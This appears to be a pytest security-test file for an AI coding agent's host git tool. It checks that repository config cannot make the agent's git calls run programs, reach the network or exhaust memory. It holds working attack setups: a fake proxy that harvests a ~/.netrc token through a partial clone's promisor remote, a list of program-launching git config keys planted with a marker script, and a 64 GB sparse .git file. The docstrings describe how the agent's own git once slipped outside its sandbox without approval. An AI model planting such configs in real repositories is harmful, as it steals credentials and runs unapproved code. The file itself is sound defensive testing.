"""Host git against repository config that nobody's list names, and against the network.

The attack: a partial clone's promisor remote made kimi's own `Git show` fetch the missing blobs
from the host, outside the sandbox and without any approval, from a URL and through an `http.proxy` the
repository's config names; curl then answered the proxy's 401 with the user's ~/.netrc password for that
host (a GitHub token, in the test). Host git now runs with no transport allowed at all.

The rest pins what held: a table of keys that start programs and that no override names (core.alternateRefsCommand,
uploadpack.packObjectsHook, submodule.*.update=!cmd, merge and diff drivers, credential helpers through
url.insteadOf, include.path and includeIf, ...) planted together, then every Git command, a checkpoint and
the pack's listing, with Landlock and without it: nothing planted runs.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kimi_cli.hostsafe.git import confine as git_confine
from kimi_cli.hostsafe.git.repo_guard import remember_session_start
from kimi_cli.hostsafe.git.workspace import workspace_git
from kimi_cli.session.undo.shadow import ShadowRepo
from kimi_cli.tools.base import ToolContext
from kimi_cli.tools.git_tool import Git, GitIdentity
from kimi_cli.tools.registry import ToolRegistry
from kimi_cli.tools.workspace import Workspace

from support import git

NETRC_TOKEN = "ghp_NETRC0SECRET0123456789"


def git_tool(ws: Path, identity: GitIdentity | None = None, **args: object) -> tuple[str, bool]:
    registry = ToolRegistry([Git(identity or GitIdentity(name="Kimi", email="k@example.com"))])
    result = asyncio.run(registry.call("Git", json.dumps(args), ToolContext(workspace=Workspace(ws))))
    return result.output, result.is_error


class Proxy:
    """A loopback 'proxy' that records every request and answers 401 Basic, as a thief would."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.requests: list[str] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.requests.append(conn.recv(4096).decode(errors="replace"))
                    conn.sendall(b'HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm="x"\r\n'
                                 b"Content-Length: 0\r\nConnection: close\r\n\r\n")  # fmt: skip
                except OSError:
                    pass

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def partial_clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, str, Proxy]]:
    """A partial clone missing the blobs of its newest commit, whose promisor remote goes through a proxy the
    repository names; HOME holds a ~/.netrc for that remote's host. (ws, the commit, the proxy)."""
    src, ws, home = tmp_path / "src", tmp_path / "ws", tmp_path / "home"
    src.mkdir()
    home.mkdir()
    git(src, "init", "-q", "-b", "main")
    (src / "a.txt").write_text("first\n")
    git(src, "add", ".")
    git(src, "commit", "-q", "-m", "one")
    git(src, "config", "uploadpack.allowFilter", "true")
    git(tmp_path, "clone", "-q", "--no-local", "--filter=blob:none", f"file://{src}", str(ws))
    (src / "b.txt").write_text("second\n")
    git(src, "add", ".")
    git(src, "commit", "-q", "-m", "two")
    git(ws, "fetch", "-q", "--filter=blob:none", "origin")
    newest = git(ws, "rev-parse", "FETCH_HEAD").strip()
    proxy = Proxy()
    git(ws, "config", "remote.origin.url", "http://github.com/someone/project.git")
    git(ws, "config", "http.proxy", f"http://127.0.0.1:{proxy.port}")
    (home / ".netrc").write_text(f"machine github.com login alice password {NETRC_TOKEN}\n")
    (home / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(home))
    yield ws, newest, proxy
    proxy.close()


def leaked(proxy: Proxy) -> bool:
    token = base64.b64encode(f"alice:{NETRC_TOKEN}".encode()).decode()
    return any(token in r for r in proxy.requests)


def test_a_promisor_remote_never_makes_host_git_reach_the_network(partial_clone: tuple[Path, str, Proxy]) -> None:
    ws, newest, proxy = partial_clone
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    subprocess.run(["git", "show", newest], cwd=ws, env={**env, "GIT_TERMINAL_PROMPT": "0"}, capture_output=True,
                   timeout=60)  # fmt: skip
    assert leaked(proxy)  # the plant is real: plain git hands the netrc password to the repository's proxy
    proxy.requests.clear()

    remember_session_start(ws)
    out, err = git_tool(ws, command="show", rev=newest)
    assert err and "not allowed" in out, out  # the missing blob is not fetched: the result says why
    assert proxy.requests == [] and not leaked(proxy)
    out, err = git_tool(ws, command="show", rev="HEAD")  # what the clone holds still shows
    assert not err and "+first" in out, out
    out, err = git_tool(ws, command="log")
    assert not err and "two" not in out and "one" in out


# --- keys no override names, all at once --------------------------------------------------------------------

PLANTS = [
    ("core.alternateRefsCommand", "{p}"),
    ("uploadpack.packObjectsHook", "{p}"),
    ("submodule.sub.update", "!{p}"),
    ("merge.evil.driver", "{p} %O %A %B"),
    ("diff.evil.command", "{p}"),
    ("diff.evil.textconv", "{p}"),
    ("filter.evil.clean", "{p}"),
    ("filter.evil.smudge", "{p}"),
    ("credential.helper", "!{p}"),
    ("url.ext::{p}.insteadOf", "https://example.com/"),
    ("core.sshCommand", "{p}"),
    ("core.askPass", "{p}"),
    ("core.fsmonitor", "{p}"),
    ("core.editor", "{p}"),
    ("sequence.editor", "{p}"),
    ("trailer.evil.command", "{p}"),
    ("gpg.program", "{p}"),
    ("commit.gpgSign", "true"),
    ("log.showSignature", "true"),
    ("alias.status", "!{p}"),
    ("pager.log", "{p}"),
    ("core.pager", "{p}"),
    ("gc.auto", "1"),
    ("core.hooksPath", "{hooks}"),
]


@pytest.fixture(params=["confined", "without Landlock"])
def confinement(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    if request.param == "without Landlock":
        monkeypatch.setenv("KIMI_HOST_GIT_NO_LANDLOCK", "1")
    git_confine._abi.cache_clear()
    yield request.param
    monkeypatch.delenv("KIMI_HOST_GIT_NO_LANDLOCK", raising=False)
    git_confine._abi.cache_clear()


def test_every_program_key_at_once_runs_nothing_through_any_host_git_path(tmp_path: Path, confinement: str) -> None:
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    marks = outside / "marks"
    program = outside / "plant"
    program.write_text(f'#!/bin/sh\necho "$0 $*" >> {marks}\ncat >/dev/null 2>&1\nexit 0\n')
    program.chmod(0o755)
    hooks = outside / "hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "post-checkout", "reference-transaction", "post-index-change"):
        (hooks / hook).write_text(f"#!/bin/sh\necho hook-{hook} >> {marks}\n")
        (hooks / hook).chmod(0o755)
    git(ws, "init", "-q", "-b", "main")
    (ws / ".gitattributes").write_text("* diff=evil merge=evil filter=evil\n")
    (ws / "app.py").write_text("print(1)\n")
    git(ws, "-c", "core.hooksPath=/dev/null", "add", ".")
    git(ws, "-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "initial")
    for key, value in PLANTS:
        git(ws, "config", key.format(p=program), value.format(p=program, hooks=hooks))
    included = outside / "included.cfg"
    included.write_text(f"[core]\n\tfsmonitor = {program}\n[diff]\n\texternal = {program}\n")
    git(ws, "config", "include.path", str(included))
    git(ws, "config", "includeIf.onbranch:main.path", str(included))
    git(ws, "config", "includeIf.gitdir:/.path", str(included))

    remember_session_start(ws)
    identity = GitIdentity(name="Kimi", email="k@example.com", co_author_trailer="Co-authored-by: x <x@y>")
    (ws / "app.py").write_text("print(2)\n")
    (ws / "new.py").write_text("x = 1\n")
    steps = [
        {"command": "status"}, {"command": "diff"}, {"command": "log"}, {"command": "show"},
        {"command": "add", "all": True}, {"command": "diff", "staged": True},
        {"command": "branch", "name": "side"}, {"command": "switch", "name": "side"},
        {"command": "restore", "paths": ["app.py"], "rev": "main"}, {"command": "switch", "name": "main"},
        {"command": "branch"},
    ]  # fmt: skip
    for args in steps:
        out, err = git_tool(ws, identity, **args)
        assert "plant" not in out or "warning" in out, (args, out)
    out, err = git_tool(ws, identity, command="commit", message="change")
    assert err and "hooks" in out  # refused: the repository has hooks the user did not allow
    assert workspace_git(ws, ["ls-files"]) is not None
    shadow = ShadowRepo(ws, home=tmp_path / "kimi-home")
    shadow.snapshot()
    assert (marks.read_text() if marks.exists() else "") == ""
    plain = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    for args in (["status"], ["diff", "HEAD"], ["log", "-1"]):
        subprocess.run(["git", *args], cwd=ws, env=plain, capture_output=True, timeout=60)
    assert marks.read_text().strip()  # the plants are live: git run by hand starts them


# --- a `.git` that is a 64 GB sparse file ------------------------------------------------------------------


def test_a_huge_sparse_git_file_is_not_read_whole(tmp_path: Path) -> None:
    """The attack: in a folder that is not a repository, `truncate -s 64G .git` (a sandboxed
    command may create `.git` there) made every host git call read it whole: the checkpoint after that very
    step would take all of kimi's memory. Only the start of such a file is read now."""
    import tracemalloc

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "app.py").write_text("x = 1\n")
    os.truncate(os.open(ws / ".git", os.O_CREAT | os.O_WRONLY, 0o644), 64 << 30)  # sparse: no disk used
    remember_session_start(ws)
    tracemalloc.start()
    try:
        assert workspace_git(ws, ["status"]) is None  # not a repository: git is not run at all
        out, err = git_tool(ws, command="status")
        assert err and "not a git repository" in out
        shadow = ShadowRepo(ws, home=tmp_path / "kimi-home")
        first = shadow.snapshot()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024
    (ws / "new.py").write_text("y = 2\n")
    assert [c.path for c in shadow.changes(first, shadow.snapshot())] == ["new.py"]  # checkpoints still work


def test_a_gitdir_file_still_finds_its_repository(tmp_path: Path) -> None:
    real, ws = tmp_path / "real", tmp_path / "ws"
    real.mkdir()
    git(real, "init", "-q", "-b", "main")
    ws.mkdir()
    (ws / "f.txt").write_text("f\n")
    git(real, "--work-tree", str(ws), "add", "f.txt")
    git(real, "--work-tree", str(ws), "commit", "-q", "-m", "one")
    (ws / ".git").write_text(f"gitdir: {real / '.git'}\n")  # a --separate-git-dir layout, present at start
    # ...that the user opted in to: the git dir names this work tree (without it the layout is refused, as any
    # .git file aimed at another repository is: tests/attacks/host_git/test_gitdir_links.py).
    git(real, "config", "core.worktree", str(ws))
    remember_session_start(ws)
    out, err = git_tool(ws, command="log")
    assert not err and "one" in out
